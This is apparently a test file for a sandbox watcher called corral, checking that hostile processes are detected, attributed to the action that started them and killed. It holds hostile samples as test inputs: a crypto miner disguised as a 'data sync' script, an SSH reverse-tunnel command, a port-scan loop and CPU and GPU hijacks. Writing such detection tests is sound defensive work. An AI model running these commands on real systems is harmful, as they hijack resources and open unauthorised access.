@@ -1,0 +1,275 @@
+"""The watcher against real processes in real sandboxes: detected, answered, attributed."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from corral.ledger import Ledger
+from corral.policy import Policy
+from corral.sandbox import Sandbox
+from corral.sandbox.backend import SandboxError
+from corral.watch.gpu import FakeGpuBackend, GpuProcess
+from corral.watch.watcher import Watcher
+
+from ..egress.servers import SSHServer
+
+POOL_HOST, POOL_PORT = "127.0.0.2", 3333
+
+
+def policy(*allow: str, **extra: Any) -> Policy:
+    return Policy.from_dict(
+        {
+            "version": 1,
+            "extends": "strict",
+            "commands": {"default": "allow", "threats": False},
+            "network": {"mode": "proxy", "allow": list(allow)},
+            **extra,
+        }
+    )
+
+
+@pytest.fixture
+def ledger() -> Iterator[Ledger]:
+    with Ledger.memory() as led:
+        yield led
+
+
+@pytest.fixture(scope="module")
+def watcher() -> Iterator[Watcher]:
+    w = Watcher(gpu=FakeGpuBackend())
+    yield w
+    w.close()
+
+
+def alerts(ledger: Ledger) -> list[dict[str, Any]]:
+    return [rec.body | {"_action": rec.action_id} for rec in ledger.records(kinds="alert")]
+
+
+def wait_for(pred: Any, timeout: float = 8.0) -> Any:
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        got = pred()
+        if got:
+            return got
+        time.sleep(0.05)
+    return pred()
+
+
+def running(text: str) -> list[int]:
+    out = []
+    for p in Path("/proc").iterdir():
+        if p.name.isdigit():
+            try:
+                if text in (p / "cmdline").read_bytes().replace(b"\0", b" ").decode():
+                    out.append(int(p.name))
+            except OSError:
+                pass
+    return out
+
+
+class MockPool:
+    """A Stratum pool stand-in: answers mining.subscribe and records who spoke to it."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+        self.sock.bind((POOL_HOST, POOL_PORT))
+        self.sock.listen(8)
+        self.messages: list[dict[str, Any]] = []
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self) -> None:
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            threading.Thread(target=self._talk, args=(conn,), daemon=True).start()
+
+    def _talk(self, conn: socket.socket) -> None:
+        with conn, conn.makefile("rwb") as f:
+            for line in f:
+                msg = json.loads(line)
+                self.messages.append(msg)
+                reply = {"id": msg.get("id"), "result": [[], "08000002", 4], "error": None}
+                f.write(json.dumps(reply).encode() + b"\n")
+                f.flush()
+
+    def close(self) -> None:
+        self.sock.close()
+
+
+MINER = """
+import hashlib, json, socket
+# A "data sync" that is really a miner: it dials its pool through the proxy and hashes.
+s = socket.create_connection(("127.0.0.1", 3128))
+s.sendall(b"CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n" % (b"POOL_HOST", POOL_PORT))
+s.recv(1024)
+s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["sync/1.0"]}).encode() + b"\\n")
+s.recv(1024)
+n = 0
+while True:
+    n += 1
+    hashlib.sha256(n.to_bytes(8, "little")).digest()
+"""
+
+
+def test_a_miner_under_an_innocent_name_is_detected_and_killed(
+    tmp_path: Path, ledger: Ledger, watcher: Watcher
+) -> None:
+    pool = MockPool()
+    try:
+        (tmp_path / "sync_data.py").write_text(
+            MINER.replace("POOL_HOST", POOL_HOST).replace("POOL_PORT", str(POOL_PORT))
+        )
+        p = policy(f"{POOL_HOST}:{POOL_PORT}")
+        with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
+            r = sb.run("python3 sync_data.py", timeout=30)
+            assert r.exit_code != 0
+            assert any(a.category.value == "mining" for a in r.alerts), r
+            with pytest.raises(SandboxError, match="stopped"):
+                sb.run("echo still here")
+        assert running("sync_data.py") == []
+    finally:
+        pool.close()
+    (alert,) = [a for a in alerts(ledger) if a["category"] == "mining"][:1]
+    assert alert["_action"] == r.action_id
+    assert alert["evidence"], alert
+
+
+def test_a_cpu_burner_left_behind_is_flagged_with_the_action_that_started_it(
+    tmp_path: Path, ledger: Ledger, watcher: Watcher
+) -> None:
+    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
+        first = sb.run("echo setting up")
+        r = sb.run("nohup python3 -c 'while True: pass' > /dev/null 2>&1 & echo started")
+        assert r.stdout == "started\n"
+        hijack = wait_for(
+            lambda: [a for a in alerts(ledger) if a["detector"] == "resource-hijack-cpu"]
+        )
+        assert hijack, alerts(ledger)
+        assert hijack[0]["_action"] == r.action_id != first.action_id
+        assert wait_for(lambda: not running("while True: pass"))
+        assert sb.run("echo alive").stdout == "alive\n"  # only the process was killed
+
+
+def test_a_foreground_build_using_cpu_is_not_a_hijack(
+    tmp_path: Path, ledger: Ledger, watcher: Watcher
+) -> None:
+    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
+        r = sb.run("timeout 4 python3 -c 'while True: pass'; echo done", timeout=30)
+    assert r.stdout == "done\n"
+    assert not [a for a in alerts(ledger) if a["detector"] == "resource-hijack-cpu"]
+
+
+def test_a_reverse_tunnel_with_openssh_is_a_tunnel_alert_on_its_action(
+    tmp_path: Path, ledger: Ledger, watcher: Watcher, sshd_server: SSHServer
+) -> None:
+    key = tmp_path / "key"
+    shutil.copy(sshd_server.client_key, key)
+    key.chmod(0o600)
+    # The tunnel would work: the proxy allows this sshd. The watcher is what stops it.
+    p = policy(f"{sshd_server.host}:{sshd_server.port}")
+    with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
+        sb.run("echo before")
+        r = sb.run(
+            f"ssh -i key -p {sshd_server.port} -o BatchMode=yes -o StrictHostKeyChecking=no"
+            " -o UserKnownHostsFile=/dev/null -o ProxyCommand='nc -X 5 -x 127.0.0.1:1080 %h %p'"
+            f" -N -R 9999:127.0.0.1:22 {sshd_server.user}@{sshd_server.host}",
+            timeout=30,
+        )
+    assert r.exit_code != 0 and not r.timed_out
+    tunnel = [a for a in alerts(ledger) if a["category"] == "tunnel"]
+    assert tunnel and tunnel[0]["_action"] == r.action_id
+    assert tunnel[0]["detector"] == "tunnel-ssh-forward"
+
+
+def test_a_loop_over_50_ports_is_recon(tmp_path: Path, ledger: Ledger, watcher: Watcher) -> None:
+    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
+        r = sb.run(
+            "for p in $(seq 1 50); do curl -s -m 2 -o /dev/null http://10.9.9.9:$p/; done; echo ok",
+            timeout=60,
+        )
+        sb.watcher.sync()  # type: ignore[union-attr]
+    assert r.stdout == "ok\n"
+    recon = wait_for(lambda: [a for a in alerts(ledger) if a["category"] == "recon"])
+    assert recon and recon[0]["_action"] == r.action_id
+
+
+def test_a_gpu_hijack_is_caught_through_the_fake_nvml(tmp_path: Path, ledger: Ledger) -> None:
+    gpu = FakeGpuBackend()
+    w = Watcher(gpu=gpu)
+    try:
+        with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=w) as sb:
+            r = sb.run("sleep 1000.375 & echo started")
+            pid = wait_for(lambda: running("sleep 1000.375"))[0]
+            gpu.set([GpuProcess(pid=pid, gpu=0, memory=8 << 30, util=97.0)])
+            hijack = wait_for(lambda: [a for a in alerts(ledger) if a["detector"] == "gpu-hijack"])
+            assert hijack and hijack[0]["_action"] == r.action_id
+            assert wait_for(lambda: not running("sleep 1000.375"))
+    finally:
+        w.close()
+
+
+def test_a_policy_can_end_the_episode_instead(
+    tmp_path: Path, ledger: Ledger, watcher: Watcher
+) -> None:
+    p = policy(detectors={"tunnel-tool": {"response": "end-episode"}})
+    shutil.copy("/bin/sleep", tmp_path / "ngrok")  # a binary by that name: what is run
+    with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
+        r = sb.run("./ngrok 30", timeout=30)
+        assert r.episode_ended and sb.episode_ended
+        with pytest.raises(SandboxError, match="episode"):
+            sb.run("echo more")
+
+
+def test_kill_9_of_corral_keeps_the_ledger_and_leaves_nothing_running(tmp_path: Path) -> None:
+    home = tmp_path / "home"
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    env = {"CORRAL_HOME": str(home), "PATH": "/usr/bin:/bin"}
+    proc = subprocess.Popen(
+        [
+            sys.executable,
+            "-m",
+            "corral",
+            "run",
+            "--workspace",
+            str(ws),
+            "--no-gate",
+            "--",
+            "sh",
+            "-c",
+            "echo started; sleep 1000.625",
+        ],
+        stdout=subprocess.PIPE,
+        env=env,
+    )
+    assert proc.stdout is not None
+    assert proc.stdout.readline().strip() == b"started"
+    assert wait_for(lambda: running("sleep 1000.625"))
+    os.kill(proc.pid, signal.SIGKILL)
+    proc.wait()
+    proc.stdout.close()
+    assert wait_for(lambda: not running("sleep 1000.625"), timeout=5)
+    verify = subprocess.run(
+        [sys.executable, "-m", "corral", "verify"], env=env, capture_output=True, text=True
+    )
+    assert verify.returncode == 0, verify.stdout + verify.stderr
+    log = subprocess.run(
+        [sys.executable, "-m", "corral", "log"], env=env, capture_output=True, text=True
+    ).stdout
+    assert "sandbox created" in log and "sleep 1000.625" in log  # the exec, seen and kept
